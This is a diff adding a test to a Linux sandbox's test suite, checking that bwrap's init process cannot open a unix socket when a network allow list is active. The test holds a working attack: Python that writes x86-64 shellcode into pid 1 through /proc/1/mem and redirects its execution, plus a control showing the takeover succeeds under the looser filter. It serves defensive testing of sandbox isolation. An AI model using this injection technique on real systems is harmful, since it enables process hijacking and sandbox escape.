@@ -231,6 +231,42 @@ describe.skipIf(!isLinux)('linux sandbox: network allow list through the filteri
     expect(r.stdout).toMatch(/^grandchild 1$/m); // EPERM
   });
 
+  // x86-64 machine code: the planted payload below is architecture-specific.
+  it.skipIf(process.arch !== 'x64')("a command that takes over bwrap's init through /proc/1/mem cannot open a unix socket from it (skipped off x86-64: the payload is x86-64 code)", async () => {
+    // The attack, for real: pid 1 (bwrap's init, same uid, dumpable) sits in wait4; the command writes
+    // code at its return address through /proc/1/mem, then lets an orphan exit so wait4 returns into
+    // it. The code calls socket(AF_UNIX, SOCK_STREAM, 0) and writes 'R' plus '0' + the low byte of the
+    // result to the init's stdout (the command's): 'R3' = a unix socket (fd 3), 'R/' = -1 (EPERM).
+    const code = [
+      'import os, time',
+      "f = open('/proc/1/syscall').read().split()",
+      "assert f[0] == '61', f",
+      'pc = int(f[-1], 16)',
+      'payload = bytes.fromhex(',
+      "    'bf01000000' 'be01000000' '31d2' 'b829000000' '0f05'",
+      "    '0430' '88c4' 'b052' '50'",
+      "    'bf01000000' '4889e6' 'ba02000000' 'b801000000' '0f05'",
+      "    'bf00000000' 'b8e7000000' '0f05')",
+      "fd = os.open('/proc/1/mem', os.O_RDWR)",
+      'os.pwrite(fd, payload, pc)',
+      'os.close(fd)',
+      'if os.fork() == 0:',
+      '    if os.fork() == 0:',
+      '        time.sleep(0.2)',
+      '        os._exit(0)',
+      '    os._exit(0)',
+      'os.wait()',
+      'time.sleep(3)',
+      "print('init not taken over')",
+    ].join('\n');
+    // Control: with the network off (restricted filter: socket(AF_UNIX) allowed, connect() refused) the
+    // take-over works, so the payload does run.
+    const control = await run([PY, '-c', code], 'workspace-write', { cwd: s.ws });
+    expect(control.stdout).toBe('R3');
+    const r = await run([PY, '-c', code], 'workspace-write', { cwd: s.ws, networkAccess: { allowHostPorts: [port] } });
+    expect(r.stdout).toBe('R/');
+  });
+
   it('the proxy socket directory is removed when the command ends', async () => {
     const r = await run([PY, '-c', `import os; print(os.environ['HTTP_PROXY'])`], 'workspace-write', { cwd: s.ws, networkAccess: {} });
     expect(r.exitCode).toBe(0);
